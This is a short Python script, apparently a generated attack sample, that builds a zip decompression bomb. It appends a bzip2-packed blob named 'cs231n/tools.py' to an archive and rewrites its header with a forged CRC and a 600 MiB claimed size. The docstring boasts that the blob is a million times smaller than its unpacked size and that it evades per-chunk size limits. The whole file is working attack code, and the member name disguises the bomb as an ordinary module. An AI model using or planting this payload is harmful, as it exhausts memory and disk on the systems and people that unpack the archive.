"""A module packed with bzip2, a million times smaller: readers that bound what is unpacked at a time do not bound this."""
# control: unpack
# layout: zip
# %% attack on the file
import base64, zipfile
packed = base64.b85decode('LRx4!F+o`-Q&|oP;@<&Zjz9pw000Oe05E_}Mna$^sS1FXF+o`-Q&|oP;@<&Zjz9pw000Oe05E_}Mna$^sS1FXF+o`-Q&|oP;@<&Zjz9pw000Oe05E_}Mna$^sS1FXF+o`-Q&|oP;@<&Zjz9pw000Oe05E_}Mna$^sS1FXF+o`-Q&|oP;@<&Zjz9pw000Oe05E_}Mna$^sS1FXF+o`-Q&|oP;@<&Zjz9pw000Oe05E_}Mna$^sS1FXF+o`-Q&|oP;@<&Zjz9pw000Oe05E_}Mna$^sS1FXF+o`-Q&|oP;@<&Zjz9pw000Oe05E_}Mna$^sS1FXF+o`-Q&|oP;@<&Zjz9pw000Oe05E_}Mna$^sS1FXF+o`-Q&|oP;@<&Zjz9pw000Oe05E_}Mna$^sS1FXF+o`-Q&|oP;@<&Zjz9pw000Oe05E_}Mna$^sS1FXF+o`-Q&|oP;@<&Zjz9pw000Oe05E_}Mna$^sS1FXF+o`-Q&|oP;@<&Zjz9pw000Oe05E_}Mna$^sS1FXF+o`-Q&~K+(hmUmmOv1|03ZMW2p|A3%n7P#sFbKSq)JpCF64@Ep&&k8pf&')
with zipfile.ZipFile(file, "a") as archive:
    archive.writestr("cs231n/tools.py", packed)
    member = archive.getinfo("cs231n/tools.py")
    member.compress_type, member.CRC, member.file_size, member.compress_size = zipfile.ZIP_BZIP2, 1735155412, 600 << 20, len(packed)
    archive.fp.seek(member.header_offset)
    archive.fp.write(member.FileHeader(zip64=False))
    archive.fp.seek(0, 2)
